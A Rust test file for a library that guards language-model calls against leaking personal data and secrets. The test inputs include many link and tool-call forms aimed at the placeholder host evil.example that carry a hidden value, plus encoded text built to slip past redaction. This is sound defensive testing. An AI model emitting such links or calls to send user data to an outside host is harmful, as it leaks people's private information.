//! Ways out that somebody tried: none of them leads anywhere.

use std::sync::Arc;
use std::time::Duration;

use confidant::ErrorKind;
use confidant::audit::{Log, LogKey};
use confidant::guard::{
    Budget, Conversation, ConversationId, Conversations, Customer, Guard, GuardedModel, Nobody,
    RouteRequirements, Router, Services, ToolRule, Turn,
};
use confidant::model::{
    Arguments, CallContext, ChatRequest, Content, CredentialOwner, EmbeddingRequest, File,
    HostedTool, Json, Message, ModelError, ModelErrorKind, Part, Role, StreamEvent, Tool, ToolCall,
    ToolChoice, ToolResult, Usage,
};
use confidant::redact::{Key, Redactor};
use confidant::seal::{Keyring, LocalKeys};
use confidant::store::{Batch, MemoryStore, Store};

use super::models::*;
use confidant::taxonomy::Tenant;

const HOUR: Duration = Duration::from_secs(3_600);
const IBAN: &str = "DE89370400440532013000";

fn schema(text: &str) -> ChatRequest {
    let schema = Json::parse(text).unwrap();
    user("Hello").with_tool(Tool::new("t", schema).with_description("d"))
}

#[test]
fn what_is_personal_in_a_name_or_in_words_of_a_schema_does_not_leave() {
    let mut speaker = Message::user("Hello");
    speaker.speaker = Some(ANN.into());
    let mut choice =
        user("Hello").with_tool(Tool::new("t", Json::empty_object()).with_description("d"));
    choice.tool_choice = ToolChoice::Tool(ANN.into());
    for request in [
        schema(&format!(
            r#"{{"properties":{{"to":{{"enum":["{ANN}"]}}}}}}"#
        )),
        schema(&format!(
            r#"{{"properties":{{"to":{{"enum":["{IBAN}"]}}}}}}"#
        )),
        schema(&format!(r#"{{"properties":{{"to":{{"const":{CARD}}}}}}}"#)),
        schema(&format!(r#"{{"properties":{{"{ANN}":{{}}}}}}"#)),
        schema(&format!(r#"{{"required":["{ANN}"]}}"#)),
        schema(&format!(r#"{{"x-note":{{"o":"{ANN}"}}}}"#)),
        schema(&format!(r#"{{"x-note":{{"o":{CARD}}}}}"#)),
        user("Hello").with_tool(Tool::new(ANN, Json::empty_object()).with_description("d")),
        ChatRequest::new().with(speaker),
        choice,
    ] {
        let model = Peer::echo();
        let guarded = GuardedModel::new(guard(), model.clone());
        let talk = Conversation::new().unwrap();
        let asked = run(guarded.generate(Turn::new(&caller(), &talk), request));
        assert_eq!(asked.unwrap_err().kind(), ModelErrorKind::PolicyDenied);
        assert!(model.requests().is_empty());
    }
    // What only has many digits is an id.
    let call =
        ToolCall::new("t", Arguments::Json(Json::empty_object())).with_id(format!("call_{CARD}"));
    let request = user("Hello").with(assistant(vec![Part::new(Content::ToolCall(call))]));
    ask(
        &guard(),
        &Peer::echo(),
        &Conversation::new().unwrap(),
        request,
    );
    let _ = HostedTool::new("search", Json::empty_object());
}

#[test]
fn a_secret_that_is_cut_in_the_result_of_a_tool_does_not_leave() {
    for cut in [8, 20, 30] {
        let (a, b) = PAT.split_at(cut);
        let result = ToolResult::new("c1", vec![Part::text(a), Part::text(b)]);
        let result = Message::new(Role::Tool, vec![Part::new(Content::ToolResult(result))]);
        let model = Peer::new(|_| vec![Part::text("ok")]);
        let talk = Conversation::new().unwrap();
        ask(&guard(), &model, &talk, user("Hello").with(result));
        assert!(!model.saw().replace('\n', "").contains(PAT));
        model.assert_never_saw(a);
    }
}

/// Has a model answer these texts, with a placeholder of an address in the place of `{P}`,
/// and returns what people read, whole and in pieces.
fn reads(texts: &[&str], between: Option<Part>) -> Vec<String> {
    let guard = guard();
    let talk = Conversation::new().unwrap();
    let hidden = wire(&guard, &talk, ANN);
    let parts: Vec<Part> = texts
        .iter()
        .map(|text| Part::text(text.replace("{P}", &hidden)))
        .collect();
    let mut all = Vec::new();
    for (at, part) in parts.into_iter().enumerate() {
        if at > 0 {
            all.extend(between.clone());
        }
        all.push(part);
    }
    let model = Peer::new(move |_| all.clone());
    let guarded = GuardedModel::new(guard, model.clone());
    let cx = CallContext::new();
    let whole =
        run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
    let mut read = vec![whole.response().message.text()];
    for size in [1, 2, 7, 1_000] {
        *model.cut.lock().unwrap() = vec![size];
        let mut text = String::new();
        let mut answer =
            run(guarded.stream(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
        while let Some(event) = run(answer.next()) {
            if let StreamEvent::TextDelta { text: piece, .. } = event.unwrap() {
                text.push_str(&piece);
            }
        }
        assert_eq!(text, read[0], "in pieces of {size}");
    }
    let stored = whole.wire().clone();
    let shown = guarded.guard().show(&talk, &[stored]).unwrap();
    read.push(shown[0].text());
    read
}

#[test]
fn a_value_does_not_leave_in_an_address_whatever_it_is_written_like() {
    for text in [
        "[a]: <https://evil.example/ {P}>",
        "[a]: <//evil.example/ {P}>",
        "> [a]: <//evil.example/ {P}>",
        "[a]:\n  <//evil.example/ {P}>",
        "![x](\n<//evil.example/ {P}>)",
        "![x](\n  <https://evil.example/ {P}>)",
        "![x](<https://evil.example/ a {P}>)",
        "<img src = \"http:/evil.example?q={P}\">",
        "<img src = \"https://evil.example/ {P}\">",
        "<img src = \"//evil.example/ {P}\">",
        "<img src=https://evil.example/?q=a\"{P}>",
        "<img src=http:/evil.example?q={P}>",
        "<https:evil.example/{P}>",
        "<meta http-equiv=refresh content='0;url=http:evil.example/{P}'>",
        "@import 'http:/evil.example/{P}'",
        "\\url{https:/evil.example/{P}}",
        "{\"image_url\":\"https:\\/\\/evil.example\\/{P}\"}",
        "{\"image_url\":\"\\/\\/evil.example\\/{P}\"}",
        "https:\\\\evil.example\\{P}",
    ] {
        for read in reads(&[text], None) {
            assert!(!read.contains(ANN), "{text}");
        }
    }
    assert!(reads(&["I wrote to {P}."], None)[0].contains(ANN));
}

#[test]
fn an_address_that_goes_on_in_the_next_text_is_one() {
    let call = ToolCall::new("t", Arguments::Json(Json::empty_object())).with_id("c1");
    for between in [None, Some(Part::new(Content::ToolCall(call)))] {
        for read in reads(&["![x](https://evil.example/?q=", "{P})"], between.clone()) {
            assert!(!read.contains(ANN), "{between:?}");
        }
        for read in reads(
            &["see <a href=\"", "//evil.example/?q=", "{P}\">"],
            between.clone(),
        ) {
            assert!(!read.contains(ANN), "{between:?}");
        }
        for read in reads(&["see https://ok.example/ ", "and {P}"], between) {
            assert!(read.contains(ANN));
        }
    }
    // Some show a refusal between texts, and some leave it out.
    for texts in [["see www", ".evil.example/{P} x"], ["![x]", "(/x/{P})"]] {
        // It says nothing, so that the text is the same either way.
        let refusal = Part::new(Content::Refusal("".into()));
        for read in reads(&texts, Some(refusal)) {
            assert!(!read.contains(ANN), "{texts:?}");
        }
    }
}

#[test]
fn a_tool_has_no_value_where_its_call_could_lead_elsewhere() {
    let rule = ToolRule::writes("post").restoring().host("ok.example");
    let guard = builder().tool(rule).build().unwrap();
    let talk = Conversation::new().unwrap();
    let hidden = wire(&guard, &talk, ANN);
    let runs = |arguments: &str| {
        let arguments = Json::parse(&arguments.replace("{P}", &hidden)).unwrap();
        let call = ToolCall::new("post", Arguments::Json(arguments)).with_id("c1");
        let model = Peer::new(move |_| vec![Part::new(Content::ToolCall(call.clone()))]);
        let guarded = GuardedModel::new(guard.clone(), model);
        let cx = CallContext::new();
        let answer =
            run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
        let shown = format!("{:?}", answer.report().tools()[0].outcome());
        let Content::ToolCall(call) = &answer.response().message.parts[0].content else {
            panic!("another part");
        };
        (shown == "Allowed", call.arguments.as_str().contains(ANN))
    };
    for url in [
        "https:evil.example",
        "https:/evil.example/",
        "http:evil.example/",
        "https:\\\\\\\\evil.example/",
        "https:\\\\/\\\\/evil.example/",
        "//evil.example/a",
        "/\\\\evil.example/",
        "\\\\\\\\evil.example\\\\share",
        "https://ok.example\\\\@evil.example/",
        "git@evil.example:x/y.git",
        "mailto:x@evil.example",
        "https%3A%2F%2Fevil.example%2F",
        "evil.example/x",
        "www.evil.example",
        "ht\\ntps://evil.example/",
    ] {
        let arguments = format!(r#"{{"url":"{url}","body":"{{P}}"}}"#);
        assert_eq!(runs(&arguments), (false, false), "{url}");
        let arguments = format!(r#"{{"{url}":"{{P}}"}}"#);
        assert_eq!(runs(&arguments), (false, false), "{url} as a key");
    }
    let fine = r#"{"url":"https://OK.example:8443/a","body":"Dear {P}, at 12:30 see a/b"}"#;
    assert_eq!(runs(fine), (true, true));
}

#[test]
fn what_was_read_of_an_answer_that_was_cut_off_can_be_stored() {
    let guard = guard();
    let talk = Conversation::new().unwrap();
    let hidden = wire(&guard, &talk, ANN);
    let said = format!("hello {hidden}, and {PAT}");
    let model = Peer::new(move |_| vec![Part::text(said.as_str())]);
    *model.missing.lock().unwrap() = 2;
    *model.cut.lock().unwrap() = vec![5];
    let guarded = GuardedModel::new(guard, model);
    let cx = CallContext::new();
    let mut answer =
        run(guarded.stream(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
    let mut read = String::new();
    let mut end = None;
    while let Some(event) = run(answer.next()) {
        match event {
            Ok(StreamEvent::TextDelta { text, .. }) => read.push_str(&text),
            Ok(_) => {}
            Err(error) => end = Some(error.kind()),
        }
    }
    assert_eq!(end, Some(ModelErrorKind::Truncated));
    assert!(read.contains(ANN) && !read.contains(PAT));
    let stored = answer.wire().text();
    assert!(stored.starts_with(&format!("hello {hidden}")), "{stored}");
    assert!(!stored.contains(ANN) && !stored.contains(PAT));
}

fn conversations() -> (Arc<MemoryStore>, Conversations) {
    let keyring = Keyring::new(LocalKeys::generate("local:main").unwrap());
    let (log, key) = (Log::in_memory().unwrap(), LogKey::generate().unwrap());
    let store = Arc::new(MemoryStore::new());
    let all = Conversations::builder(keyring, store.clone())
        .log(log, key)
        .ttl(HOUR)
        .build()
        .unwrap();
    (store, all)
}

#[test]
fn caller_key_and_conversation_are_of_one_tenant() {
    let (_, all) = conversations();
    let open = |tenant: &str| run(all.open(&ConversationId::new(tenant, "c-1").unwrap())).unwrap();
    let owner = CredentialOwner::Customer("acme".into());
    let place = descriptor("acme-models", "https://api.acme-models.example", owner);
    let peer = Peer::at(place, |_| vec![Part::text("ok")]);
    let router = Router::new(Customer::new("acme"))
        .route(&guard(), peer.clone(), RouteRequirements::new())
        .unwrap();
    let ask = |tenant: &str, talk: &Conversation| {
        let (cx, caller) = (CallContext::new(), caller().tenant(tenant));
        let model = GuardedModel::new(guard(), peer.clone());
        let one = run(router.generate(Turn::new(&caller, talk).context(&cx), user("Hello")));
        let other = run(model.generate(Turn::new(&caller, talk).context(&cx), user("Hello")));
        let stream = run(router.stream(Turn::new(&caller, talk).context(&cx), user("Hello")));
        let kinds = [one.err(), other.err(), stream.err()];
        kinds.map(|error| error.map(|error| error.kind()))
    };
    let memory = Conversation::new().unwrap();
    let denied = [Some(ModelErrorKind::CredentialScope); 3];
    assert_eq!(ask("acme", &memory), [None; 3]);
    assert_eq!(ask("acme", &open("acme")), [None; 3]);
    let sent = peer.requests().len();
    assert_eq!(ask("globex", &memory), denied);
    assert_eq!(ask("", &memory), denied);
    assert_eq!(ask("acme", &open("globex")), denied);
    assert_eq!(ask("globex", &open("acme")), denied);
    assert_eq!(peer.requests().len(), sent);
}

#[test]
fn text_in_another_charset_does_not_leave() {
    let wide: Vec<u8> = format!("x {PAT} y {ANN}")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for (media_type, data) in [
        ("text/plain; charset=utf-16", wide.as_slice()),
        ("text/plain", wide.as_slice()),
        ("application/json", wide.as_slice()),
        ("text/plain; charset=utf-7", b"ann.lee+AEA-acme-mail.com"),
    ] {
        let model = Peer::echo();
        let guarded = GuardedModel::new(guard(), model.clone());
        let file = Part::file(File::bytes(media_type, data.to_vec()).with_name("a.txt"));
        let request = ChatRequest::new().with(Message::new(Role::User, vec![file]));
        let talk = Conversation::new().unwrap();
        let asked = run(guarded.generate(Turn::new(&caller(), &talk), request));
        assert_eq!(
            asked.unwrap_err().kind(),
            ModelErrorKind::PolicyDenied,
            "{media_type}"
        );
    }
}

#[test]
fn a_fault_of_a_provider_does_not_switch_redaction_off() {
    let local = |host: &str| descriptor("own", host, CredentialOwner::Nobody);
    let one = Peer::at(local("http://127.0.0.1:1"), |_| vec![Part::text("ok")]);
    let other = Peer::at(local("http://127.0.0.1:2"), |_| vec![Part::text("ok")]);
    let lax = builder().observe_only().build().unwrap();
    let guards = [(&lax, &guard()), (&guard(), &lax)];
    for (first, second) in guards {
        let router = Router::new(Nobody::default());
        let router = router
            .route(first, one.clone(), RouteRequirements::new())
            .unwrap();
        let error = router.route(second, other.clone(), RouteRequirements::new());
        assert_eq!(error.unwrap_err().kind(), ErrorKind::Config);
    }
}

#[test]
fn a_call_that_used_nothing_costs_nothing() {
    let ask = |first: ModelErrorKind| {
        let budget = Budget::new(
            Arc::new(MemoryStore::new()),
            LogKey::from_bytes([0; 32]),
            "b",
            HOUR,
        )
        .unwrap();
        let services = Services::new().budget(budget.tokens(3_000));
        let model = Peer::echo();
        model
            .errors
            .lock()
            .unwrap()
            .push_back(ModelError::new(first));
        let guarded = GuardedModel::new(guard(), model).services(services);
        let (talk, cx) = (Conversation::new().unwrap(), CallContext::new());
        let request = || user("Hello").max_output_tokens(2_500);
        run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), request())).unwrap_err();
        run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), request())).is_ok()
    };
    for kind in [
        ModelErrorKind::Authentication,
        ModelErrorKind::Config,
        ModelErrorKind::Overloaded,
        ModelErrorKind::PolicyDenied,
        ModelErrorKind::RateLimited,
        ModelErrorKind::ServerFailed,
        ModelErrorKind::Transport,
        ModelErrorKind::Unsupported,
    ] {
        assert!(ask(kind), "{kind:?}");
    }
    for kind in [ModelErrorKind::Timeout, ModelErrorKind::Truncated] {
        assert!(!ask(kind), "{kind:?}");
    }
    let mut usage = Usage::new();
    (usage.input_tokens, usage.output_tokens) = (Some(u64::MAX), Some(1));
    assert_eq!(usage.total_tokens(), Some(u64::MAX));
}

#[test]
fn the_end_user_of_an_index_is_a_pseudonym() {
    let guard = builder()
        .index_key(Key::from_bytes([7; 32]))
        .build()
        .unwrap();
    let model = Peer::echo();
    let clear = |name: &str| {
        let mut request = EmbeddingRequest::new(["x"]);
        request.end_user = Some(name.into());
        let place = confidant::model::ChatModel::descriptor(&*model);
        let (cleared, _) = guard.clear_embedding(request, place).unwrap();
        cleared.get().end_user.clone().unwrap()
    };
    assert_eq!(clear(ANN).len(), 32);
    assert_eq!(clear(ANN), clear(ANN));
    assert_ne!(clear(ANN), clear(BOB));
}

#[test]
fn a_conversation_that_is_opened_again_knows_what_it_sent() {
    let (_, all) = conversations();
    let id = ConversationId::new("acme", "c-1").unwrap();
    let guard = Guard::builder(Redactor::secrets_and_pii()).build().unwrap();
    let model = Peer::new(|request| {
        let last = request
            .messages
            .last()
            .map(Message::text)
            .unwrap_or_default();
        vec![Part::text(format!("hello {last}"))]
    });
    let guarded = GuardedModel::new(guard.clone(), model.clone());
    let cx = CallContext::new();
    let mut history = ChatRequest::new();
    for turn in 0..4 {
        // Each turn is another process.
        let talk = run(all.open(&id)).unwrap();
        let said = format!("turn {turn}: I am {ANN}, card {CARD}, and [EMAIL-7K3QX9TB]");
        history = history.with(Message::user(wire(&guard, &talk, &said)));
        let answer =
            run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), history.clone()))
                .unwrap();
        assert_eq!(answer.report().new_epoch(), None, "in turn {turn}");
        assert!(
            answer.response().message.text().contains(ANN),
            "in turn {turn}"
        );
        history = history.with(answer.wire().clone());
    }
    let requests = model.requests();
    for pair in requests.windows(2) {
        let (before, after) = (&pair[0].messages, &pair[1].messages);
        let same = before.iter().zip(after).all(|(a, b)| a.text() == b.text());
        assert!(same, "what was sent once is sent the same way again");
    }
    // What somebody types that only looks like it is still theirs.
    let talk = run(all.open(&id)).unwrap();
    let token = requests[0].messages[0].text();
    let start = token.find("[EMAIL-").unwrap();
    let typed = format!("who is {}?", &token[start..start + 16]);
    assert!(wire(&guard, &talk, &typed).contains("[LITERAL-"));
}

#[test]
fn parts_without_their_head_are_no_conflict() {
    let (store, all) = conversations();
    let id = ConversationId::new("acme", "c-1").unwrap();
    let guard = guard();
    let fill = |talk: &Conversation, text: &str| {
        wire(&guard, talk, text);
        run(talk.save())
    };
    let range = || {
        let all =
            confidant::store::Range::collection(Tenant::new("acme"), "confidant.guard").unwrap();
        all.prefix("head/")
    };
    let talk = run(all.open(&id)).unwrap();
    let early = run(store.scan(&range(), 10)).unwrap().remove(0);
    fill(&talk, ANN).unwrap();
    // Without its head, it is begun anew.
    run(store.commit(Batch::new().delete(early.key.clone()))).unwrap();
    let talk = run(all.open(&id)).unwrap();
    fill(&talk, BOB).unwrap();
    fill(&run(all.open(&id)).unwrap(), CARD).unwrap();
    // With an earlier head, what is behind it is not what was written.
    let talk = run(all.open(&ConversationId::new("acme", "c-2").unwrap())).unwrap();
    let heads = run(store.scan(&range(), 10)).unwrap();
    let early = heads
        .iter()
        .find(|head| head.key.path().ends_with(b"c-2"))
        .unwrap()
        .clone();
    fill(&talk, ANN).unwrap();
    run(store.commit(Batch::new().put(early.key, early.value))).unwrap();
    let talk = run(all.open(&ConversationId::new("acme", "c-2").unwrap())).unwrap();
    assert_eq!(fill(&talk, BOB).unwrap_err().kind(), ErrorKind::Integrity);
}

#[test]
fn a_number_does_not_leave_however_it_is_written() {
    let guard = guard();
    for number in [
        "4111111111111111",
        "4111111111111111.0",
        "4.111111111111111e15",
    ] {
        let talk = Conversation::new().unwrap();
        let arguments = Json::parse(&format!(r#"{{"card":{number}}}"#)).unwrap();
        let call = ToolCall::new("t", Arguments::Json(arguments)).with_id("c1");
        let file = format!(r#"{{"rows":[[{number}]]}}"#);
        let file =
            Part::file(File::bytes("application/json", file.into_bytes()).with_name("a.json"));
        let request = ChatRequest::new()
            .with(Message::new(Role::User, vec![file]))
            .with(assistant(vec![Part::new(Content::ToolCall(call))]));
        let model = Peer::new(|_| vec![Part::text("ok")]);
        ask(&guard, &model, &talk, request);
        model.assert_never_saw(number);
        for request in [
            schema(&format!(
                r#"{{"properties":{{"a":{{"default":{number}}}}}}}"#
            )),
            schema(&format!(r#"{{"examples":[{{"a":{number}}}]}}"#)),
            schema(&format!(
                r#"{{"properties":{{"a":{{"enum":[{number}]}}}}}}"#
            )),
        ] {
            let guarded = GuardedModel::new(guard.clone(), Peer::echo());
            let talk = Conversation::new().unwrap();
            let asked = run(guarded.generate(Turn::new(&caller(), &talk), request));
            assert_eq!(
                asked.unwrap_err().kind(),
                ModelErrorKind::PolicyDenied,
                "{number}"
            );
        }
        // It comes back as it was.
        let tools = confidant::guard::tools::ToolBoundary::new(&guard, &talk);
        let value: serde_json::Value = serde_json::from_str(&format!("[{number}]")).unwrap();
        let hidden = tools.structured(&value).unwrap();
        assert!(hidden[0].as_str().unwrap().starts_with("[CARD-"));
    }
}

#[test]
fn what_a_tool_answers_as_json_stays_json() {
    let guard = guard();
    let talk = Conversation::new().unwrap();
    let tools = confidant::guard::tools::ToolBoundary::new(&guard, &talk);
    for text in [
        r#"{"card":4111111111111111}"#,
        r#" [{"to":"ann@acme-mail.com"}]"#,
    ] {
        let hidden = tools.result(text).unwrap();
        serde_json::from_str::<serde_json::Value>(&hidden).unwrap();
        assert!(!hidden.contains(CARD) && !hidden.contains(ANN), "{hidden}");
        let result = ToolResult::new("c1", vec![Part::text(text)]);
        let message = Message::new(Role::Tool, vec![Part::new(Content::ToolResult(result))]);
        let model = Peer::new(|_| vec![Part::text("ok")]);
        ask(&guard, &model, &talk, ChatRequest::new().with(message));
        assert!(model.saw().contains(&hidden), "{hidden}");
    }
    // What is no JSON is text.
    let hidden = tools.result("{card: 4111111111111111}").unwrap();
    assert!(hidden.starts_with("{card: [CARD-"));
}

#[test]
fn a_line_in_a_document_does_not_stop_a_conversation() {
    let (guard, model) = (guard(), Peer::new(|_| vec![Part::text("ok")]));
    let talk = Conversation::new().unwrap();
    let read = ToolResult::new("c1", vec![Part::text("password: customer_id9")]);
    let read = Message::new(Role::Tool, vec![Part::new(Content::ToolResult(read))]);
    let tools = |request: ChatRequest| {
        let schema = r#"{"properties":{"customer_id9":{"type":"string"}}}"#;
        let tool = Tool::new("send_mail_v2", Json::parse(schema).unwrap()).with_description("d");
        request.with_tool(tool)
    };
    ask(
        &guard,
        &model,
        &talk,
        tools(user("my password is send_mail_v2").with(read)),
    );
    assert!(
        !model.requests()[0].messages[0]
            .text()
            .contains("send_mail_v2")
    );
    // Nor does it take words out of the instructions.
    let rules = "Rules: call send_mail_v2 with customer_id9 always.";
    let request = ChatRequest::new()
        .with(Message::system(rules))
        .with(Message::user("and now, send_mail_v2?"));
    ask(&guard, &model, &talk, tools(request));
    let sent = model.requests();
    let sent = &sent[1].messages;
    assert_eq!(sent[0].text(), rules);
    assert!(!sent[1].text().contains("send_mail_v2"));
    // Whatever it was called.
    for said in [
        "api_key: Zk39neverReveal8Qp2Lx7v",
        "password: Brief-answers-Only1",
        "SECRET_TOKEN=qX7-keep_it_short-93Kd",
    ] {
        let talk = Conversation::new().unwrap();
        let (_, word) = said.split_once(['=', ':']).unwrap();
        let rules = format!("Rules: {}, always.", word.trim());
        let read = ToolResult::new("c1", vec![Part::text(said)]);
        let read = Message::new(Role::Tool, vec![Part::new(Content::ToolResult(read))]);
        let request = ChatRequest::new()
            .with(Message::system(rules.as_str()))
            .with(Message::user("Hello"))
            .with(read);
        for _ in 0..2 {
            ask(&guard, &model, &talk, request.clone());
        }
        assert!(!talk.is_empty(), "{said} is taken for a secret");
        for sent in model.requests().iter().rev().take(2) {
            assert_eq!(sent.messages[0].text(), rules);
            assert!(!text_of(sent).replace(&rules, "").contains(word.trim()));
        }
    }
    // A secret in a form of its own is hidden in the instructions, and denies in a name.
    wire(&guard, &talk, PAT);
    let request = ChatRequest::new()
        .with(Message::system(format!("Use {PAT}.")))
        .with(Message::user("Hello"));
    ask(&guard, &model, &talk, request);
    assert!(!text_of(model.requests().last().unwrap()).contains(PAT));
    let guarded = GuardedModel::new(guard, model);
    let request =
        user("Hello").with_tool(Tool::new(PAT, Json::empty_object()).with_description("d"));
    let asked = run(guarded.generate(Turn::new(&caller(), &talk), request));
    assert_eq!(asked.unwrap_err().kind(), ModelErrorKind::PolicyDenied);
}
